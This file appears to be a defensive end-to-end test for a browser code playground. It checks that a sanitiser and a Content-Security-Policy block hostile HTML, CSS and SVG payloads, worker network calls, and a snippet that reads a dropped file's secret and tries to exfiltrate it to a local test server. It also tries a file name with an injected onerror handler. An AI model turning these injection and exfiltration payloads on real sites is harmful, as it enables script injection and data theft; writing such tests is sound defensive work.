// The hostile part of the end-to-end test (called by e2e.mjs): what a shared link, a snippet
// or a dropped file could do to make the page request something from another origin or
// restyle the page outside the output area. Each check names what it tried. The other
// origin is a server on another port of 127.0.0.1 (startDetector) that counts every TCP
// connection; e2e.mjs fails if it got one, or if any request outside the site was not
// refused by the browser. Payloads also name http://example.invalid/, which would show as a
// request that was sent (and failed to resolve) rather than refused.

import http from "node:http";
import { join } from "node:path";

// A second origin on 127.0.0.1 that records every connection and request. It answers like a
// willing accomplice (CORS open, a stylesheet that hides the header, a script), so that
// anything that got through would also work.
export async function startDetector() {
  const hits = [];
  let connections = 0;
  const server = http.createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    const css = req.url.includes(".css");
    res.writeHead(200, {
      "access-control-allow-origin": "*",
      "content-type": css ? "text/css" : "text/javascript",
    });
    res.end(css ? "header{display:none!important}" : "postMessage({type:'ready'});export default 1;");
  });
  server.on("connection", () => connections++);
  server.on("upgrade", (req, socket) => {
    hits.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  const origin = `http://127.0.0.1:${server.address().port}`;
  return {
    origin,
    // Requests, upgrades, and connections that carried no request (a preconnect).
    get hits() {
      const bare = connections - hits.length;
      return bare > 0 ? [...hits, `${bare} connection(s) without a request`] : [...hits];
    },
    close: () => new Promise((resolve) => {
      server.closeAllConnections?.();
      server.close(resolve);
    }),
  };
}

// Rendered HTML a snippet could show (show({toHtml}) or an error's `html`). `csp: false`
// marks what the Content-Security-Policy alone does not stop, so that only the filter does:
// a navigation (meta refresh, a link, a form), a page class, an id, and an <iframe>: the
// policy refuses the frame's request, but Chromium still opens a TCP connection to its host
// (seen with this test's counting server). The rest is also injected raw, past the filter,
// to test the policy on its own.
function payloads(T, X) {
  return [
    { what: "<style> hiding the header", html: "<style>header{display:none!important}</style>" },
    { what: "@\\69mport (escaped @import)", html: `<style>@\\69mport "${T}/escaped-import.css";</style>` },
    { what: "\\75rl( (escaped url) in <style>", html: `<style>body{background:\\75rl(${T}/escaped-url.png)}</style>` },
    { what: "\\75rl( in a style attribute", html: `<div style="background:\\75rl(${T}/inline-escaped.png)">escaped url</div>` },
    { what: "image-set()", html: `<div class="culib" style="background-image:image-set('${T}/image-set.png' 1x)">image-set</div>` },
    { what: "url() to example.invalid", html: `<div style="background:url(${X}/css-url.png)">example.invalid</div><img src="${X}/img.png">` },
    { what: "@font-face src url()", html: `<style>@font-face{font-family:f;src:url(${T}/font.woff)}body{font-family:f}</style>` },
    { what: "expression()", html: `<div style="width:expression(alert(1));behavior:url(${T}/x.htc)">expression</div>` },
    { what: "position:fixed full-page overlay", html: `<div style="position:fixed;inset:0;z-index:2147483647;background:rgba(255,0,0,.6)">FIXED OVERLAY</div>` },
    { what: "absolutely positioned overlay", html: `<div style="position:absolute;top:0;left:0;width:100vw;height:100vh;z-index:99;background:red">ABSOLUTE OVERLAY</div>` },
    { what: "the page's own overlay class (.drop)", html: `<div class="drop">PAGE CLASS OVERLAY</div>`, csp: false },
    { what: "background= attribute", html: `<table background="${T}/table-background.png"><tr><td background="${T}/td-background.png">cell</td></tr></table>` },
    { what: "SVG fill=url()", html: `<svg width="20" height="20"><rect width="20" height="20" fill="url(${T}/svg-fill.svg#p)"/></svg>` },
    { what: "SVG filter=url()", html: `<svg width="20" height="20"><rect width="20" height="20" filter="url(${T}/svg-filter.svg#f)"/></svg>` },
    { what: "SVG style fill:url() and escaped attribute", html: `<svg width="20" height="20"><rect width="20" height="20" style="fill:url(${T}/svg-style.svg#p)"/><text fill="\\75rl(${T}/attr-escape)" x="1" y="9">t</text></svg>` },
    { what: "SVG <image>, <use>, <a xlink:href>", html: `<svg width="20" height="20"><image href="${T}/svg-image.png" width="20" height="20"/><use href="${T}/svg-use.svg#x"/><a xlink:href="${T}/svg-a"><text x="1" y="9">a</text></a></svg>` },
    { what: "SVG <style> with @import", html: `<svg><style>@import url(${T}/svg-style-import.css); header{display:none}</style></svg>` },
    { what: "SVG <animate>/<set> to a URL", html: `<svg width="20" height="20"><image width="20" height="20"><animate attributeName="href" values="${T}/animate.png"/></image><rect width="9" height="9"><set attributeName="fill" to="url(${T}/set.svg#p)"/></rect></svg>` },
    { what: "SVG foreignObject overlay", html: `<svg><foreignObject width="100" height="100"><div style="position:fixed;inset:0;background:blue">FOREIGN OVERLAY</div></foreignObject></svg>` },
    { what: "<img> with onerror", html: `<img src="${T}/img.png" onerror="fetch('${T}/onerror')"><img srcset="${T}/srcset.png 1x">` },
    { what: "<link> stylesheet and prefetch", html: `<link rel="stylesheet" href="${T}/link.css"><link rel="prefetch" href="${T}/prefetch">` },
    { what: "<iframe>", html: `<iframe src="${T}/iframe"></iframe>`, csp: false },
    { what: "<object>, <embed>, <video poster>, <audio>, <input type=image>", html: `<object data="${T}/object"></object><embed src="${T}/embed"><video poster="${T}/poster.png"></video><audio src="${T}/audio.mp3"></audio><input type="image" src="${T}/input.png">` },
    { what: "<base href>", html: `<base href="${T}/">` },
    { what: "<meta http-equiv=refresh>", html: `<meta http-equiv="refresh" content="0;url=${T}/refresh">`, csp: false },
    { what: "<a href> and <form action>", html: `<a href="${T}/a">a link</a><form action="${T}/form"><button>go</button></form>`, csp: false },
    { what: "mXSS through <math>/<style>", html: `<math><mtext><table><mglyph><style><img src="${T}/mxss.png"></style></mglyph></table></mtext></math>` },
    { what: "<noscript>/<template> content", html: `<noscript><img src="${T}/noscript.png"></noscript><template><img src="${T}/template.png"></template>` },
    { what: "id clobbering (#status)", html: `<div id="status" class="status">id clobbering</div>`, csp: false },
  ];
}

// A renderer-like fragment inside hostile wrapping: it must come through.
const LEGIT = `<div class="culib"><style>header{display:none}</style><div class="card"><h3>kept card<span class="badge sim">simulated</span></h3><dl><dt>field</dt><dd>value</dd></dl></div><table><caption>kept table</caption><thead><tr><th class="l">k</th></tr></thead><tbody><tr><td class="r mono">1</td></tr></tbody></table><svg class="culib-chart" width="40" height="20" viewBox="0 0 40 20"><rect x="0" y="0" width="40" height="20" opacity="1" fill="none" stroke="currentColor" stroke-width="1"/><text x="2" y="12" dy="0.5ex" text-anchor="start" font-family="sans-serif" font-size="9.7" opacity="1" fill="currentColor">kept</text></svg></div>`;

function b64url(text) {
  return Buffer.from(text, "utf8").toString("base64").replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");
}

export async function hostile({ page, url, outDir, check, detector, expected, onSite, requests }) {
  const T = detector.origin;
  const X = "http://example.invalid";
  const P = payloads(T, X);
  const result = {};
  expected.phase = "hostile";
  // Record the policy's refusals on the page (an init script runs outside the policy).
  await page.context().addInitScript(() => {
    window.__violations = [];
    document.addEventListener("securitypolicyviolation", (e) => {
      window.__violations.push(`${e.effectiveDirective} ${e.blockedURI}`);
    });
  });
  const violations = () => page.evaluate(() => window.__violations ?? []);
  const hitsNow = () => detector.hits.length;
  const settle = () => page.waitForTimeout(1000);
  const runs = () => page.evaluate(() => Number(document.documentElement.dataset.runs ?? 0));
  const runIt = async () => {
    const before = await runs();
    await page.click("#run");
    await page.waitForFunction((n) => Number(document.documentElement.dataset.runs ?? 0) > n, before, { timeout: 15000 });
    return page.evaluate(() => ({
      output: document.getElementById("output").innerText,
      codeError: document.getElementById("code-error").hidden ? null : document.getElementById("code-error").innerText,
      dropped: document.documentElement.dataset.dropped ?? "",
    }));
  };
  // The page as the reader knows it: header visible and on top, nothing positioned out of
  // the output area, only the page's two stylesheets, the body's background untouched.
  const pageIntact = (outputToo = true) => page.evaluate((outputToo) => {
    const problems = [];
    window.scrollTo(0, 0);
    const h = document.querySelector("header");
    const r = h.getBoundingClientRect();
    const cs = getComputedStyle(h);
    if (r.height < 20 || r.width < 600 || r.top < 0) problems.push(`header box ${r.width}x${r.height} at ${r.top}`);
    if (cs.display === "none" || cs.visibility !== "visible" || cs.opacity !== "1") {
      problems.push(`header display ${cs.display} visibility ${cs.visibility} opacity ${cs.opacity}`);
    }
    for (const f of [0.02, 0.3, 0.5, 0.98]) {
      const e = document.elementFromPoint(r.left + r.width * f, r.top + r.height / 2);
      if (!e || !h.contains(e)) problems.push(`header covered at ${f * 100}% by <${e?.localName}> ${e?.textContent?.slice(0, 40)}`);
    }
    const nav = document.querySelector("nav a").getBoundingClientRect();
    const n = document.elementFromPoint(nav.left + 10, nav.top + nav.height / 2);
    if (!n?.closest("nav")) problems.push(`navigation covered by <${n?.localName}>`);
    // Nothing from the output shows outside the output area (a 9 x 9 grid over the window).
    const out = document.getElementById("output").getBoundingClientRect();
    for (let i = 0; i < 9; i++) {
      for (let j = 0; j < 9; j++) {
        const x = ((i + 0.5) * innerWidth) / 9;
        const y = ((j + 0.5) * innerHeight) / 9;
        const e = document.elementFromPoint(x, y);
        // (1 px of slack: hit testing snaps to whole pixels, the boxes do not.)
        const inside = x >= out.left - 1 && x <= out.right + 1 && y >= out.top - 1 && y <= out.bottom + 1;
        if (e?.closest("#output") && !inside) {
          const b = e.getBoundingClientRect();
          problems.push(`<${e.localName}> of the output (${b.left},${b.top} to ${b.right},${b.bottom}; the output area ${out.left},${out.top} to ${out.right},${out.bottom}) covers ${x | 0},${y | 0}`);
        }
      }
    }
    if (outputToo) {
      // (A <link> the policy refused still makes an empty sheet: not checked after a raw injection.)
      const sheets = [...document.styleSheets].map((s) => s.href ?? "inline <style>");
      const want = [`${location.origin}/style.css`, `${location.origin}/culib.css`];
      if (sheets.join(" ") !== want.join(" ")) problems.push(`stylesheets ${sheets.join(", ")}`);
    }
    const body = getComputedStyle(document.body);
    if (body.backgroundImage !== "none") problems.push(`body background ${body.backgroundImage}`);
    if (outputToo) {
      const tags = "div span code pre table caption thead tbody tr th td h3 dl dt dd svg rect line polyline polygon circle text".split(" ");
      for (const e of document.querySelectorAll("#output *")) {
        if (!tags.includes(e.localName)) problems.push(`<${e.localName}> in the output`);
        const pos = getComputedStyle(e).position;
        if (pos !== "static" && pos !== "relative") problems.push(`<${e.localName}> positioned ${pos}`);
        for (const a of e.attributes) {
          if (/^(style|id|href|xlink:href|src|srcset|background|poster|action|data|filter|mask|clip-path|on.*)$/i.test(a.name) ||
              /url|\\|image-set|@import|expression|:/i.test(a.value)) {
            problems.push(`${e.localName}[${a.name}="${a.value}"]`);
          }
        }
      }
    }
    return problems;
  }, outputToo);
  const intact = async (what, outputToo) => {
    const p = await pageIntact(outputToo);
    check(p.length === 0, `${what}: header visible and on top, no overlay, no new stylesheet${p.length ? `: ${p.join("; ")}` : ""}`);
  };
  const openLink = async (lesson, code, shot) => {
    await page.goto("about:blank");
    await page.goto(`${url}/#${lesson}?code=${b64url(code)}`);
    await page.waitForFunction(() => !document.getElementById("run").disabled, null, { timeout: 20000 });
    const hits = hitsNow();
    await settle();
    const s = await page.evaluate(() => ({
      banner: !document.getElementById("from-link").hidden && document.getElementById("from-link").innerText,
      label: !document.getElementById("code-origin").hidden,
      runs: document.documentElement.dataset.runs,
      output: document.getElementById("output").childElementCount,
    }));
    check(s.banner && s.banner.includes("From a link") && s.label,
      `#${lesson} link: its code is shown as "from a link" before it runs`);
    check(s.runs === undefined && s.output === 0 && hitsNow() === hits, `#${lesson} link: nothing ran on opening it`);
    if (shot) await page.screenshot({ path: join(outDir, shot), fullPage: true });
  };

  // 1. Hostile HTML through a shared link's snippet: each payload through show({toHtml}),
  //    a renderer-like fragment that must survive, then all of them in an error's `html`.
  const htmlSnippet = `// Hostile rendered HTML (the e2e test): none of it may reach the page.
const P = ${JSON.stringify(P.map((p) => p.html))};
for (const html of P) show({ toHtml: () => html });
show({ toHtml: () => ${JSON.stringify(LEGIT)} });
const e = new Error("hostile error html");
e.html = P.join("");
throw e;
`;
  await openLink("welcome", htmlSnippet, "hostile-link.png");
  const q0 = requests.length;
  let r = await runIt();
  await settle();
  check((r.codeError ?? "").includes("hostile error html"), "hostile HTML snippet ran (its error is shown)");
  check(r.output.includes("kept card") && r.output.includes("kept table") && (await page.$$("#output .card h3 .badge.sim, #output svg.culib-chart text")).length === 2,
    "renderer-like HTML inside the hostile snippet comes through (card, badge, table, chart text)");
  const dropped = r.dropped.split(" ");
  for (const d of ["<style>", "div[style]", "table[background]", "td[background]", "rect[fill]", "rect[filter]", "<image>", "<use>", "<img>", "<link>", "<iframe>", "<meta>", "<base>", "<a>", "<math>", "<foreignObject>", "div[id]", "div[class=drop]"]) {
    check(dropped.includes(d), `the filter dropped ${d}`);
  }
  const q1 = requests.slice(q0).filter((q) => !onSite(q.url())).map((q) => q.url());
  check(q1.length === 0, `the filter alone stopped every load: not even a refused request${q1.length ? `: ${q1.join(", ")}` : ""}`);
  await intact("after hostile HTML (sanitised)");
  check(hitsNow() === 0, `hostile HTML: the other origin got nothing${hitsNow() ? `: ${detector.hits.join(", ")}` : ""}`);
  await page.screenshot({ path: join(outDir, "hostile-html.png"), fullPage: true });
  result.droppedByFilter = dropped;

  // 2. The same payloads injected raw into the output, past the filter (as if it had a
  //    bug): the page's Content-Security-Policy alone must refuse every load and style.
  const raw = P.filter((p) => p.csp !== false).map((p) => p.html).join("");
  await page.evaluate((html) => {
    const d = document.createElement("div");
    d.id = "raw-injection";
    d.innerHTML = html;
    document.getElementById("output").append(d);
  }, raw);
  await settle();
  await intact("raw injection past the filter", false);
  const refused = (await violations()).filter((v) => v.includes(T));
  const directives = [...new Set(refused.map((v) => v.split(" ")[0]))];
  check(refused.length >= 8 && ["img-src", "style-src-elem", "base-uri"].every((d) => directives.includes(d)),
    `the policy refused ${refused.length} loads of the raw injection (${directives.join(", ")})`);
  check(hitsNow() === 0, `raw injection: the other origin got nothing${hitsNow() ? `: ${detector.hits.join(", ")}` : ""}`);
  await page.screenshot({ path: join(outDir, "hostile-raw-injection.png"), fullPage: true });
  await page.evaluate(() => document.getElementById("raw-injection").remove());
  result.refusedRaw = directives;

  // 3. A link's snippet that reaches for the network from the worker.
  const netSnippet = `// Reaching another origin from the worker (the e2e test).
const T = ${JSON.stringify(T)};
const tries = {
  "fetch": () => fetch(T + "/fetch"),
  "fetch example.invalid": () => fetch(${JSON.stringify(X)} + "/fetch"),
  "XMLHttpRequest": () => { const x = new XMLHttpRequest(); x.open("GET", T + "/xhr"); x.send(); },
  "importScripts": () => importScripts(T + "/importScripts.js"),
  "import()": () => import(T + "/import.mjs"),
  "WebSocket": () => new WebSocket(T.replace("http:", "ws:") + "/ws"),
  "EventSource": () => new EventSource(T + "/sse"),
  "new Worker(other origin)": () => new Worker(T + "/worker.js"),
  "new Worker(this site's worker.js)": () => new Worker(${JSON.stringify(`${url}/worker.js`)}, { type: "module" }),
  "new Worker(blob)": () => new Worker(URL.createObjectURL(new Blob(["fetch('" + T + "/nested')"]))),
  "navigator.sendBeacon": () => navigator.sendBeacon(T + "/beacon", "x"),
  "fetch from a prototype": () => {
    for (let o = self; o; o = Object.getPrototypeOf(o)) {
      const d = Object.getOwnPropertyDescriptor(o, "fetch");
      if (d?.value) return d.value.call(self, T + "/proto-fetch");
    }
    throw new Error("no fetch on the global or its prototypes");
  },
  "fetch put back": () => { self.fetch = () => 0; return self.fetch(T + "/put-back"); },
  "Function('return this')().fetch": () => Function("return this")().fetch(T + "/function-this"),
  "indexedDB": () => indexedDB.open("x"),
  "caches": () => caches.open("x"),
  "navigator.storage": () => navigator.storage.getDirectory(),
  "WebTransport": () => new WebTransport("https://127.0.0.1:1/wt"),
};
const lines = [];
for (const [name, f] of Object.entries(tries)) {
  try {
    await f();
    lines.push(name + ": NOT REFUSED");
  } catch (e) {
    lines.push(name + ": refused (" + e.name + ": " + String(e.message).slice(0, 70) + ")");
  }
}
show(lines.join("\\n"));
`;
  await openLink("launch", netSnippet);
  r = await runIt();
  await settle();
  const lines = r.output.split("\n").filter((l) => l.includes(": "));
  check(lines.length === 18 && lines.every((l) => l.includes(": refused (")),
    `network from a snippet: ${lines.length} ways, all refused${lines.some((l) => !l.includes("refused")) ? `: ${lines.filter((l) => !l.includes("refused")).join("; ")}` : ""}`);
  check(hitsNow() === 0, `network from a snippet: the other origin got nothing${hitsNow() ? `: ${detector.hits.join(", ")}` : ""}`);
  await intact("after the network snippet");
  await page.screenshot({ path: join(outDir, "hostile-network.png"), fullPage: true });
  result.network = lines;

  // 4. The worker's policy on its own (without its removed globals): a blob: worker made
  //    like the page makes its worker, trying the same things; and a worker from a URL,
  //    which would not inherit the policy, cannot be made at all.
  const cspWorker = await page.evaluate(async ([T, site]) => {
    const code = `
const T = ${JSON.stringify(T)};
const out = {};
const t = async (n, f) => { try { await f(); out[n] = "NOT REFUSED"; } catch (e) { out[n] = "refused"; } };
const ev = (make) => new Promise((res, rej) => { const s = make(); s.onopen = res; s.onerror = () => { s.close?.(); rej(new Error()); }; });
(async () => {
  await t("fetch", () => fetch(T + "/csp-fetch"));
  await t("XMLHttpRequest", () => new Promise((res, rej) => { const x = new XMLHttpRequest(); x.open("GET", T + "/csp-xhr"); x.onload = res; x.onerror = () => rej(new Error()); x.send(); }));
  await t("importScripts", () => importScripts(T + "/csp-importScripts.js"));
  await t("import()", () => import(T + "/csp-import.mjs"));
  await t("WebSocket", () => ev(() => new WebSocket(T.replace("http:", "ws:") + "/csp-ws")));
  await t("EventSource", () => ev(() => new EventSource(T + "/csp-sse")));
  await t("URL worker (this site's worker.js)", () => new Promise((res, rej) => { const w = new Worker(${JSON.stringify(`${site}/worker.js`)}, { type: "module" }); w.onerror = () => rej(new Error()); setTimeout(res, 1500); }));
  await t("nested blob worker's fetch", () => new Promise((res, rej) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(T + "/csp-nested") + ").then(() => postMessage(1), () => postMessage(0))"]))); w.onmessage = (e) => e.data ? res() : rej(new Error()); }));
  out.sameSite = await fetch(${JSON.stringify(`${site}/index.html`)}).then((r) => r.status, (e) => String(e));
  postMessage(out);
})();`;
    const w = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
    const out = await new Promise((res) => { w.onmessage = (e) => res(e.data); });
    w.terminate();
    out.pageUrlWorker = await new Promise((res) => {
      try {
        const u = new Worker("worker.js", { type: "module" });
        u.onerror = () => res("refused");
        setTimeout(() => res("NOT REFUSED"), 1500);
      } catch (e) {
        res("refused");
      }
    });
    return out;
  }, [T, url]);
  const { sameSite, ...refusals } = cspWorker;
  check(Object.values(refusals).every((v) => v === "refused"),
    `the policy alone, in a blob: worker like the page's: ${Object.entries(refusals).map(([k, v]) => `${k} ${v}`).join(", ")}`);
  check(sameSite === 200, `the same policy still lets the worker fetch the site's own files (HTTP ${sameSite})`);
  check(hitsNow() === 0, `the policy alone: the other origin got nothing${hitsNow() ? `: ${detector.hits.join(", ")}` : ""}`);
  const w = page.workers().find((x) => x.url().startsWith(`blob:${url}/`));
  const lockedDown = w ? await w.evaluate(() => [typeof fetch, typeof XMLHttpRequest, typeof WebSocket, typeof Worker, typeof importScripts]) : [];
  check(w && lockedDown.every((t) => t === "undefined"), `the page's worker is a blob: worker with fetch, XMLHttpRequest, WebSocket, Worker, importScripts removed (${lockedDown.join(", ")})`);
  result.policyAlone = cspWorker;

  // 5. A dropped file and a link's snippet that reads it and tries to send it away.
  const exfilSnippet = `// Reads the file the reader dropped and tries to send it to another origin (the e2e test).
const T = ${JSON.stringify(T)};
const text = new TextDecoder().decode(files[dropped]);
const secret = (text.match(/SECRET-[0-9a-z-]+/) ?? ["(none)"])[0];
show("the snippet read " + dropped + ": " + secret);
const q = encodeURIComponent(secret);
for (const f of [
  () => fetch(T + "/exfil-fetch?" + q),
  () => import(T + "/exfil-import.mjs?" + q),
  () => importScripts(T + "/exfil-importScripts.js?" + q),
  () => new EventSource(T + "/exfil-sse?" + q),
  () => new WebSocket(T.replace("http:", "ws:") + "/exfil-ws?" + q),
  () => postMessage({ type: "result", id: 0, outputs: [{ kind: "html", html: "<img src=" + T + "/exfil-post?" + q + ">" }], error: null, ms: 0 }),
]) {
  try { await f(); } catch (_) {}
}
show({ toHtml: () => '<img src="' + T + '/exfil-img?' + q + '"><div style="background:url(' + T + '/exfil-css?' + q + ')">css</div><svg><image href="' + T + '/exfil-svg?' + q + '"/></svg><table background="' + T + '/exfil-bg?' + q + '"><tr><td>t</td></tr></table>' });
`;
  await openLink("your-file", exfilSnippet);
  await page.evaluate(() => {
    const ptx = "// SECRET-42-do-not-leak\n.version 8.0\n.target sm_90\n.address_size 64\n" +
      ".visible .entry k(.param .u64 p) { ret; }\n";
    const dt = new DataTransfer();
    dt.items.add(new File([ptx], "secret.ptx"));
    document.dispatchEvent(new DragEvent("drop", { dataTransfer: dt, bubbles: true, cancelable: true }));
  });
  await page.waitForFunction(() => document.getElementById("files-note").textContent.includes("secret.ptx"));
  r = await runIt();
  await settle();
  check(r.output.includes("the snippet read secret.ptx: SECRET-42-do-not-leak"),
    "a link's snippet can read a dropped file (shown only to the reader)");
  check(hitsNow() === 0, `reading a dropped file: nothing reached the other origin${hitsNow() ? `: ${detector.hits.join(", ")}` : ""}`);
  await intact("after the dropped-file snippet");
  await page.screenshot({ path: join(outDir, "hostile-dropped-secret.png"), fullPage: true });

  // 6. Hostile dropped files (the page only reads their bytes; their names and contents
  //    reach the page through the renderers' escaped text and the filter).
  const evilName = `"><img src=x onerror=alert(1)><style>header{display:none}</style>.ptx`;
  const files = [
    { name: "evil.svg", text: `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${T}/svg-onload')"><style>@import url(${T}/file.css);</style><image href="${T}/file-image.png"/></svg>` },
    { name: evilName, text: `<style>header{display:none}</style>\n.version 8.0\n<img src="${T}/in-ptx.png">\n` },
    { name: "evil.fatbin", text: `<html><body style="background:url(${T}/fatbin.png)"><script>fetch('${T}/fatbin')</script></body></html>` },
  ];
  for (const f of files) {
    await page.goto("about:blank");
    await page.goto(`${url}/#your-file`);
    await page.waitForFunction(() => !document.getElementById("run").disabled, null, { timeout: 20000 });
    await page.evaluate((f) => {
      const dt = new DataTransfer();
      dt.items.add(new File([f.text], f.name));
      document.dispatchEvent(new DragEvent("dragenter", { dataTransfer: dt, bubbles: true }));
      document.dispatchEvent(new DragEvent("drop", { dataTransfer: dt, bubbles: true, cancelable: true }));
    }, f);
    await page.waitForFunction((n) => document.getElementById("files-note").textContent.startsWith(n), f.name);
    r = await runIt();
    await settle();
    const note = await page.$eval("#files-note", (n) => ({ text: n.textContent, children: n.childElementCount }));
    check(note.children === 0 && note.text.startsWith(f.name), `dropped ${JSON.stringify(f.name.slice(0, 40))}: its name is shown as text`);
    check(r.codeError !== null || r.output.includes("error"), `dropped ${JSON.stringify(f.name.slice(0, 40))}: refused as an image (${(r.codeError ?? r.output).split("\n")[0].slice(0, 90)})`);
    check(hitsNow() === 0, `dropped ${JSON.stringify(f.name.slice(0, 40))}: the other origin got nothing`);
    await intact(`after dropping ${JSON.stringify(f.name.slice(0, 40))}`);
  }
  await page.screenshot({ path: join(outDir, "hostile-dropped-file.png"), fullPage: true });

  expected.phase = null;
  result.offsiteRequests = requests.filter((q) => !onSite(q.url())).length;
  return result;
}
